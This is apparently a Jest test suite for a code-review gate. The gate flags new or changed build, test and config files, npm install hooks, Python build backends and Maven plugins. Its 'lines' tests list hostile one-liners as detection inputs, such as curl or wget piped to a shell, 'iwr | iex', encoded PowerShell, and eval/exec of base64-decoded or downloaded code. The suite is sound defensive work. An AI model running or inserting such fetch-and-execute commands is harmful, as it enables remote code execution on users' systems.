import { describe, expect, it } from '@jest/globals';
import { inShort, sampleFacts, type SampleChange } from '../facts.sample.js';
import { executionSurface } from './execution-surface.gate.js';

const check = (...changes: SampleChange[]) => executionSurface.check(sampleFacts({ changes }));
const codes = (...changes: SampleChange[]) =>
  check(...changes).findings.map(({ code, startLine }) =>
    startLine === undefined ? code : `${code}:${startLine}`,
  );
const edit = (path: string, oldText: string, text: string): SampleChange => ({
  ...{ path, oldMode: '100644', oldText, text },
});

describe('execution-surface: files that run by themselves', () => {
  it.each([
    ...['binding.gyp', 'setup.py', 'native/build.rs', 'tests/conftest.py', 'jest.config.mjs'],
    ...['vite.config.ts', 'webpack.config.js', 'webpack.prod.js', 'app/build.gradle.kts', 'Gruntfile.js'],
    ...['dodo.py', '.taprc', '.storybook/main.ts', 'any.config.mts', '.pylintrc'],
    ...['sitecustomize.py', 'x.pth', 'eslint.config.mjs', 'CMakeLists.txt', 'Conftest.PY', 'setup.py.'],
    ...['WORKSPACE', 'pkg/BUILD.bazel', 'BUILD', 'a.bzl', '.bazelrc', 'a/b.gradle', 'x.targets', 'a.vcxproj'],
    ...['Gemfile', 'Podfile', 'build.xml', 'build.mill', 'project/Build.scala', 'Setup.hs', 'Makefile.PL'],
    ...[
      'SConstruct',
      'wscript',
      'xmake.lua',
      'flake.nix',
      'pytest.ini',
      '.rspec',
      'phpunit.xml',
      'deps/build.jl',
    ],
  ])('asks about a new %s', (path) => {
    expect(inShort(check({ path }))).toBe(`pass; execution.new_file ${path}`);
  });

  it.each([
    ...['src/app.config.ts', '.storybook/notes.md', 'src/gatsby-logo.ts', 'src/actions.config.json'],
    ...['docs/setup.py.md', 'vite.config.md', 'src/setup.ts', 'tests/test_conftest.py'],
    ...[
      'src/build.rs.txt',
      'gradle.properties',
      'src/webpack.ts',
      'lib/config.js',
      'build/index.ts',
      'src/workspace.ts',
      'docs/gemfile.md',
    ],
  ])('lets %s pass', (path) => expect(inShort(check({ path }))).toBe('pass'));

  it('tells a change from a new file, and lets a deletion or a mere mode pass', () => {
    expect(codes(edit('setup.py', 'a\n', 'b\n'))).toEqual(['execution.changed_file']);
    expect(codes({ path: 'setup.py', oldMode: '100644', newMode: '000000' })).toEqual([]);
  });

  it('names the line at which a configuration starts programs', () => {
    const text = "import x from 'x';\nimport { execSync } from 'node:child_process';\nexport default {};\n";
    expect(codes({ path: 'vite.config.ts', text })).toEqual([
      'execution.new_file',
      'execution.process_in_config:2',
    ]);
    expect(codes({ path: 'src/run.ts', text })).toEqual([]);
  });
});

describe('execution-surface: manifests', () => {
  const scripts = (all: object, more: object = {}) => JSON.stringify({ scripts: all, ...more }, null, 1);

  it.each(['preinstall', 'install', 'postinstall', 'prepare', 'prepublishOnly', 'prepack', 'dependencies'])(
    'asks about the script %s',
    (name) => {
      expect(codes({ path: 'package.json', text: scripts({ [name]: 'node x' }) })).toEqual([
        'execution.lifecycle_script:3',
      ]);
    },
  );

  it.each<[string, string, string]>([
    ['a script that people call', scripts({}), scripts({ build: 'tsc', preview: 'vite' })],
    ['one that was there', scripts({ prepare: 'husky' }), scripts({ x: '1', prepare: 'husky' })],
    ['one that goes', scripts({ prepare: 'husky' }), scripts({})],
    ['a field that was there', scripts({}, { jest: { a: 1 } }), scripts({ b: 'c' }, { jest: { a: 1 } })],
    ['a version', scripts({}), scripts({}, { version: '2' })],
  ])('lets %s pass', (_, before, after) => expect(codes(edit('package.json', before, after))).toEqual([]));

  it.each<[string, string, string[]]>([
    ['a changed hook', scripts({ postinstall: 'b' }), ['execution.lifecycle_script:3']],
    ['what runs before another', scripts({ test: 'a', pretest: 'b' }), ['execution.lifecycle_script:4']],
    ['a tool that runs code', scripts({}, { jest: { globalSetup: './x' } }), ['execution.package_field:3']],
    [
      'packages that may run scripts',
      scripts({}, { trustedDependencies: ['x'] }),
      ['execution.package_field:3'],
    ],
    [
      'the same of pnpm',
      scripts({}, { pnpm: { onlyBuiltDependencies: ['x'] } }),
      ['execution.package_field:4'],
    ],
    ['tasks of Nx', scripts({}, { nx: { targets: { a: { command: 'b' } } } }), ['execution.package_field:3']],
    ['what is no JSON', '{', ['execution.unreadable']],
  ])('asks about %s', (_, after, expected) =>
    expect(codes(edit('package.json', scripts({ postinstall: 'a', test: 'a' }), after))).toEqual(expected),
  );

  it.each([
    ['pyproject.toml', '[project]\nname = "x"\n[tool.pytest.ini_options]\naddopts = "-p evil"\n', 1],
    ['pyproject.toml', '[project]\nname = "x"\n[tool.poe.tasks]\nbuild = "sh x"\n', 1],
    ['pyproject.toml', '[project]\nname = "x"\n[tool.pytest.ini_options]\nminversion = "8"\n', 0],
    ['setup.cfg', '[tool:pytest]\naddopts = -p evil\n', 1],
    ['setup.cfg', '[metadata]\nversion = 2\n[flake8]\nmax-line-length = 80\n', 0],
  ])('asks where %s says what tests and tasks run: %j', (path, text, asked) => {
    const before = path === 'setup.cfg' ? '' : '[project]\nname = "x"\n';
    expect(codes(edit(path, before, text)).map((code) => code.replace(/:.*/, ''))).toEqual(
      Array<string>(asked).fill('execution.build_backend'),
    );
  });

  it('asks about what builds a Python package, not about the rest of pyproject.toml', () => {
    const before =
      '[project]\nname = "x"\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';
    expect(codes(edit('pyproject.toml', before, before.replace('"x"', '"y"')))).toEqual([]);
    expect(codes(edit('pyproject.toml', before, before.replace('hatchling.build', 'own')))).toEqual([
      'execution.build_backend',
    ]);
    expect(codes(edit('pyproject.toml', before, `${before}backend-path = ["."]\n`))).toHaveLength(1);
    expect(codes(edit('pyproject.toml', before, `${before}[tool.hatch.build.hooks.custom]\n`))).toHaveLength(
      1,
    );
    expect(codes(edit('pyproject.toml', before, '= ='))).toEqual(['execution.unreadable']);
    expect(codes(edit('pyproject.toml', before, `a = ${'['.repeat(100_000)}`))).toEqual([
      'execution.unreadable',
    ]);
  });

  it('asks about plugins of Maven, not about dependencies', () => {
    const pom = (plugin: string, version = '1') =>
      `<project>\n<dependencies>\n<version>${version}</version>\n</dependencies>\n<build><plugins>\n${plugin}\n</plugins></build>\n</project>\n`;
    expect(codes(edit('pom.xml', pom('<a/>'), pom('<a/>', '2')))).toEqual([]);
    expect(codes(edit('pom.xml', pom('<a/>'), pom('<plugin>x</plugin>')))).toEqual([
      'execution.maven_plugin:6',
    ]);
  });
});

describe('execution-surface: lines', () => {
  it.each([
    'curl -fsSL https://x.example/i.sh | sh',
    'curl -s https://x.example/i.sh | env -i HOME=/tmp bash',
    'curl -s https://x.example/i.sh | xargs -I{} sh -c {}',
    'curl https://x | sudo -E bash -s -- --yes',
    'wget -qO- https://x | /bin/bash',
    'curl -s https://x | tee log | python3 -',
    'bash <(curl -s https://x)',
    'sh -c "$(curl -fsSL https://x)"',
    'eval "$(wget -qO- https://x)"',
    'source <(curl https://x)',
    'echo aGk= | base64 -d | sh',
    'iwr https://x | iex',
    'iex (iwr https://x)',
    'powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A',
    'eval(atob("YQ=="))',
    'new Function(atob(x))()',
    'eval( Buffer.from(x, "base64").toString())',
    'eval(String.fromCharCode(97))',
    'exec(base64.b64decode("YQ=="))',
    'exec(__import__("zlib").decompress(x))',
    'exec(requests.get(url).text)',
  ])('asks about %s', (line) => {
    expect(codes({ path: 'tools/run', text: `#!/bin/sh\n${line}\n` })).toEqual([
      expect.stringMatching(/^execution\.(?:piped|unpacked):2$/),
    ]);
    expect(codes(edit('tools/run', `${line}\n`, `# moved\n${line}\n`))).toEqual([]);
  });

  it.each([
    'curl -o file https://x',
    'curl https://x | jq .',
    'curl https://x | grep sh',
    'curl -f https://x || sh fallback.sh',
    'curl -f https://x; ls | sh',
    'cat install.sh | sh',
    'curl -s https://x | xargs -n 1 echo',
    'curl -s https://x | env | grep PATH',
    'type A = fetch | shell;',
    'const retry = fetch(url) | ssh;',
    'the shell | sh of curling',
    'eval(code)',
    'atob(x)',
    'medieval(atob)',
    'subprocess.exec(base64_name)',
    'pattern.exec(base64)',
  ])('lets %s pass', (line) => expect(codes({ path: 'tools/run', text: `${line}\n` })).toEqual([]));

  it('reads on behind a backslash or a pipe', () => {
    expect(codes({ path: 'a', text: 'x\ncurl -s \\\n  https://x \\\n  | sh\n' })).toEqual([
      'execution.piped:2',
    ]);
    expect(codes({ path: 'a', text: 'curl https://x |\n  sh\n' })).toEqual(['execution.piped:1']);
  });

  it('only warns in prose', () => {
    expect(check({ path: 'README.md', text: 'curl https://x | sh\n' }).findings).toMatchObject([
      { code: 'execution.piped', severity: 'warn' },
    ]);
  });

  it('bears long lines', () => {
    const hostile = [
      'curl ',
      'curl |',
      '| ',
      'eval( ',
      'exec(base64 . ',
      'sh -c ',
      'iex ',
      'powershell -e ',
      ' \\',
    ];
    for (const part of hostile)
      expect(codes({ path: 'a', text: part.repeat(Math.ceil(400_000 / part.length)) })).toEqual([]);
    expect(codes({ path: 'a', text: 'a \\\n'.repeat(100_000) })).toEqual([]);
  });
});
